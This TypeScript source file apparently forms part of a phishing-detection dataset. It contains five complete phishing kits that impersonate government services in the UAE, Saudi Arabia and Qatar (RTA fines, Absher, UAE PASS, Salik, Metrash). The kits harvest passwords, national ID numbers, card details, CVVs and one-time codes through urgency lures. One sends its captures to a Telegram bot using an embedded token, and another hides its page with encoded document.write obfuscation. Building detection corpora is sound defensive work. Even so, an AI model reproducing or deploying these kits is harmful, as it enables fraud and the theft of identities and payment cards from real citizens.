import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, pct } from '../parts/yl-kit.js';

const metrashInner = `<div style="font-family:Tahoma,Arial,sans-serif;direction:rtl;background:#f5f1ea;min-height:100vh">
<div style="background:#8a1538;color:#fff;padding:14px 20px;font-size:19px;font-weight:bold">مطراش – وزارة الداخلية <span style="font-size:12px;font-weight:normal;opacity:.85">دولة قطر</span></div>
<div style="max-width:420px;margin:24px auto;background:#fff;border-radius:10px;padding:22px;box-shadow:0 2px 12px rgba(0,0,0,.08)">
<h3 style="margin-top:0;color:#8a1538">استعلام ودفع المخالفات المرورية</h3>
<p style="font-size:13px;color:#555;line-height:1.7">لديك مخالفة مرورية غير مسددة بقيمة <b>500 ر.ق</b>. استفد من خصم 50% عند السداد خلال 48 ساعة، وإلا سيتم حظر خدمات المركبة.</p>
<form id="mf"><input name="qid" placeholder="الرقم الشخصي (QID)" maxlength="11" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box">
<input name="cn" placeholder="رقم البطاقة" inputmode="numeric" style="width:100%;height:42px;margin:6px 0;padding:0 10px;box-sizing:border-box;direction:ltr">
<div style="display:flex;gap:8px"><input name="ex" placeholder="MM/YY" style="flex:1;height:42px;padding:0 10px"><input name="cv" placeholder="CVV" style="flex:1;height:42px;padding:0 10px"></div>
<button style="margin-top:12px;width:100%;height:44px;background:#8a1538;color:#fff;border:0;border-radius:6px;font-size:16px">ادفع 250 ر.ق</button></form></div></div>`;

export const entries: Entry[] = [
{
  id: 'yl-rta-dubai-fine-plate-search',
  label: 'phishing',
  kind: 'gov-fine-kit',
  url: 'https://rta-dubai-fines.com/en/fines-inquiry',
  body: doc({
    title: 'RTA | Fines Inquiry and Payment',
    css: cardCss({ bg: '#f2f2f2', primary: '#c8102e', radius: 4, width: 520 }) + `.hd{background:#fff;border-bottom:4px solid #c8102e;padding:12px 26px;display:flex;justify-content:space-between;align-items:center}.hd span{font-size:13px;color:#555}
table{width:100%;border-collapse:collapse;font-size:13px;margin:10px 0 16px}th,td{border-bottom:1px solid #eee;padding:8px 6px;text-align:left}th{background:#fafafa}.tot{font-size:20px;font-weight:700;text-align:right}.disc{color:#0a7b34;font-size:13px}`,
    body: `<div class="hd">${wordmark('RTA', '#c8102e', { size: 30 })}<span>Roads &amp; Transport Authority · Government of Dubai · العربية</span></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>Fines Inquiry</h1><p class="sub">Search by plate number to view and pay your traffic fines.</p>
<form><div class="f"><label>Plate source</label><select name="src"><option>Dubai</option><option>Abu Dhabi</option><option>Sharjah</option><option>Ajman</option><option>Ras Al Khaimah</option><option>Fujairah</option><option>Umm Al Quwain</option></select></div>
<div class="row"><div class="f"><label>Plate code</label><input name="code" maxlength="2" required></div><div class="f"><label>Plate number</label><input name="plate" inputmode="numeric" maxlength="5" required></div></div>
<div class="f"><label>Traffic file number (optional)</label><input name="tfn"></div><button class="btn">Search</button></form></div>
<div class="step"><h1>Fines found</h1>
<table><tr><th>Date</th><th>Violation</th><th>Amount</th></tr><tr><td id="d1"></td><td>Exceeding speed limit by not more than 20 km/h</td><td>AED 300</td></tr><tr><td id="d2"></td><td>Salik gate – unpaid toll</td><td>AED 100</td></tr></table>
<div class="tot">Total: AED 400</div><div class="disc">Early payment discount applied: pay AED 200 before the due date</div><br>
<form>${cardFields({ name: 'Cardholder name', number: 'Card number', exp: 'Expiry', cvv: 'CVV' })}<button class="btn">Pay AED 200</button></form></div>
<div class="step"><h1>Authenticate payment</h1><p class="sub">Enter the verification code sent by your card issuer.</p><form>${otpBoxes()}<button class="btn">Confirm</button></form></div>
<div class="step"><div class="spin"></div><p class="sub" style="text-align:center">Processing payment…</p><form></form></div>
</div><footer>© 2025 Roads and Transport Authority · Call Centre 800 9090</footer></div>
<script>${cardMaskJs}${otpJs}
var t=new Date();t.setDate(t.getDate()-12);document.getElementById('d1').textContent=t.toLocaleDateString('en-GB');t.setDate(t.getDate()-20);document.getElementById('d2').textContent=t.toLocaleDateString('en-GB');</script>
${stepFlow({ send: sendFetchForm('/en/ajax/process.php'), finalUrl: 'https://www.rta.ae/wps/portal/rta/ae/home' })}`,
  }),
  routes: { 'rta-dubai-fines.com/en/ajax/process.php': json({ ok: 1 }) },
},
{
  id: 'yl-absher-login-captcha-otp',
  label: 'phishing',
  kind: 'gov-portal-kit',
  url: 'https://absher-sa-gov.com/portal/individuals/login',
  body: doc({
    title: 'أبشر - وزارة الداخلية',
    lang: 'ar',
    css: cardCss({ bg: '#f3f6f4', primary: '#1b8354', radius: 6 }) + `.hd{background:#fff;padding:12px 24px;display:flex;justify-content:space-between;align-items:center;border-bottom:1px solid #e1e6e3}.hd small{color:#1b8354}
.cap{display:flex;gap:10px;align-items:center}.cap canvas{border:1px solid #ddd;border-radius:4px;background:#f7f7f7}.alert{background:#fff4e5;color:#8a5300;padding:10px;border-radius:4px;font-size:13px;margin-bottom:14px;line-height:1.6}`,
    body: `<div class="hd">${wordmark('أبشر', '#1b8354', { size: 30, width: 90 })}<small>المملكة العربية السعودية · وزارة الداخلية</small></div>
<div class="wrap"><div class="card">
<div class="step on"><h1>تسجيل الدخول – أفراد</h1>
<div class="alert">تنبيه: سيتم إيقاف خدمات أبشر للحسابات التي لم يتم تحديث بياناتها. يرجى تسجيل الدخول وتحديث البيانات.</div>
<form><div class="f"><label>اسم المستخدم أو رقم الهوية</label><input name="u" required></div><div class="f"><label>كلمة المرور</label><input name="p" type="password" required></div>
<div class="f"><label>رمز التحقق المرئي</label><div class="cap"><canvas id="cv" width="120" height="40"></canvas><input name="cap" style="width:120px" required></div></div><button class="btn">تسجيل الدخول</button></form>
<p class="muted">نسيت كلمة المرور؟ · مستخدم جديد</p></div>
<div class="step"><h1>رمز التحقق</h1><p class="sub">تم إرسال رمز التحقق إلى رقم الجوال المسجل في أبشر. <span id="cd">0:59</span></p><form>${otpBoxes(4)}<button class="btn">تحقق</button></form></div>
<div class="step"><h1>تحديث البيانات البنكية</h1><p class="sub">لاستمرار خدمات السداد الإلكتروني يرجى تأكيد بطاقة مدى المرتبطة بحسابك.</p><form>${cardFields({ name: 'اسم حامل البطاقة', number: 'رقم بطاقة مدى', exp: 'تاريخ الانتهاء', cvv: 'رمز CVV' })}<button class="btn">تأكيد</button></form></div>
</div><footer>جميع الحقوق محفوظة لوزارة الداخلية © 2025</footer></div>
<script>${otpJs}${countdownJs('#cd')}${cardMaskJs}
(function(){var c=document.getElementById('cv').getContext('2d'),s=String(Math.floor(1000+Math.random()*9000));c.font='bold 24px Arial';c.fillStyle='#1b8354';for(var i=0;i<4;i++){c.save();c.translate(18+i*24,30);c.rotate((Math.random()-.5)*.5);c.fillText(s[i],0,0);c.restore()}})();</script>
${stepFlow({ send: sendJson('/portal/api/session'), finalUrl: 'https://www.absher.sa/' })}`,
  }),
  routes: { 'absher-sa-gov.com/portal/api/session': json({ status: 'success' }) },
},
{
  id: 'yl-uaepass-deactivation-eid',
  label: 'phishing',
  kind: 'gov-identity-kit',
  url: 'https://uaepass-ae.services-verify.com/idp/login',
  body: doc({
    title: 'UAE PASS',
    css: cardCss({ bg: '#fff', primary: '#1e3a5f', radius: 10 }) + `.card{box-shadow:none;border:1px solid #e4e7ec}.warn{color:#b42318;background:#fef3f2;padding:10px;border-radius:8px;font-size:13px;margin-bottom:14px}`,
    body: `<div class="wrap"><div class="logo">${wordmark('UAE PASS', '#1e3a5f', { size: 28 })}</div><div class="card">
<div class="step on"><h1>Login to UAE PASS</h1><div class="warn">Your UAE PASS account will be deactivated in 24 hours because your Emirates ID details are not up to date.</div>
<form><div class="f"><label>Emirates ID number</label><input name="eid" placeholder="784-XXXX-XXXXXXX-X" required></div><div class="f"><label>Mobile number</label><input name="mobile" placeholder="05X XXX XXXX" required></div><div class="f"><label>Email</label><input name="email" type="email" required></div><button class="btn">Login</button></form>
<p class="muted" style="text-align:center">Don't have an account? Create new account</p></div>
<div class="step"><h1>Verify your mobile</h1><p class="sub">Enter the OTP sent to your mobile number.</p><form>${otpBoxes()}<button class="btn">Verify</button></form></div>
<div class="step"><h1>Update fee</h1><p class="sub">A service fee of AED 15 is required to re-validate your digital identity.</p><form>${cardFields({ name: 'Name on card', number: 'Card number', exp: 'MM/YY', cvv: 'CVV' })}<button class="btn">Pay AED 15</button></form></div>
</div><footer>UAE PASS · Telecommunications and Digital Government Regulatory Authority</footer></div>
<script>${otpJs}${cardMaskJs}
document.querySelector('[name=eid]').addEventListener('input',function(){var v=this.value.replace(/\\D/g,'').slice(0,15),o=v.slice(0,3);if(v.length>3)o+='-'+v.slice(3,7);if(v.length>7)o+='-'+v.slice(7,14);if(v.length>14)o+='-'+v.slice(14);this.value=o});</script>
${stepFlow({ send: sendFetchForm('/idp/next.php'), finalUrl: 'https://uaepass.ae/' })}`,
  }),
  routes: { 'uaepass-ae.services-verify.com/idp/next.php': json({ ok: true }) },
},
{
  id: 'yl-salik-unpaid-toll-sms',
  label: 'phishing',
  kind: 'gov-toll-kit',
  url: 'https://salik-ae-toll.info/pay?ref=SLK7731820',
  body: doc({
    title: 'Salik - Pay outstanding balance',
    css: cardCss({ bg: '#eef5f9', primary: '#005b94', radius: 12 }) + `.inv{background:#f7fafc;border:1px dashed #b8cfe0;border-radius:10px;padding:14px;font-size:14px;margin-bottom:16px}.inv div{display:flex;justify-content:space-between;padding:4px 0}.inv b{color:#b42318}`,
    body: `<div class="wrap"><div class="logo">${wordmark('salik', '#005b94', { size: 34 })}</div><div class="card">
<div class="step on"><h1>Outstanding toll balance</h1><p class="sub">Your Salik account has an unpaid balance. A fine of AED 50 per day will be applied if not paid within 24 hours.</p>
<div class="inv"><div><span>Reference</span><span id="ref"></span></div><div><span>Trips</span><span>Al Garhoud Bridge (×3)</span></div><div><span>Amount due</span><b>AED 12.00</b></div></div>
<form><div class="f"><label>Plate number</label><input name="plate" required></div><div class="f"><label>Mobile number</label><input name="mobile" required></div><button class="btn">Continue to payment</button></form></div>
<div class="step"><h1>Payment</h1><form>${cardFields({ name: 'Name on card', number: 'Card number', exp: 'Expiry (MM/YY)', cvv: 'CVV' })}<button class="btn">Pay AED 12.00</button></form></div>
<div class="step"><h1>3-D Secure</h1><p class="sub">Enter the one-time password sent to your phone.</p><form>${otpBoxes()}<button class="btn">Submit</button></form></div>
</div><footer>Salik Company P.J.S.C. · 800 72545</footer></div>
<script>${cardMaskJs}${otpJs}document.getElementById('ref').textContent=new URLSearchParams(location.search).get('ref')||'';</script>
${stepFlow({ send: sendTelegram('7093381125:AAFm2u0LZq9wPkXhTa3cYbVr6sJnE1oUd8k', '-4112093847', 'SALIK'), finalUrl: 'https://www.salik.ae/en' })}`,
  }),
},
{
  id: 'yl-metrash-violation-unescape',
  label: 'phishing',
  kind: 'gov-fine-kit',
  url: 'https://metrash2-moi-qa.com/violations/pay',
  body: `<!DOCTYPE html><html lang="ar"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>مطراش | وزارة الداخلية - قطر</title></head><body style="margin:0">
<script type="text/javascript">
<!--
document.write(unescape("${pct(metrashInner)}"));
//-->
</script>
<script>
document.getElementById('mf').addEventListener('submit',function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});
fetch('/violations/ajax/submit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).then(function(){location.href='/violations/otp'})});
</script></body></html>`,
  routes: {
    'metrash2-moi-qa.com/violations/ajax/submit': json({ next: '/violations/otp' }),
    'metrash2-moi-qa.com/violations/otp': htmlRoute(`<!DOCTYPE html><html lang="ar" dir="rtl"><head><meta charset="utf-8"><title>مطراش</title></head><body style="font-family:Tahoma;background:#f5f1ea"><div style="max-width:380px;margin:50px auto;background:#fff;padding:22px;border-radius:10px"><h3 style="color:#8a1538">أدخل رمز التحقق</h3><p style="font-size:13px">أرسل البنك رمز التحقق إلى جوالك</p><form onsubmit="event.preventDefault();fetch('/violations/ajax/submit',{method:'POST',body:JSON.stringify({otp:this.o.value})}).then(function(){location.href='https://portal.moi.gov.qa/'})"><input name="o" maxlength="6" style="width:100%;height:42px;font-size:20px;text-align:center"><button style="margin-top:10px;width:100%;height:42px;background:#8a1538;color:#fff;border:0">تأكيد</button></form></div></body></html>`),
  },
},
];
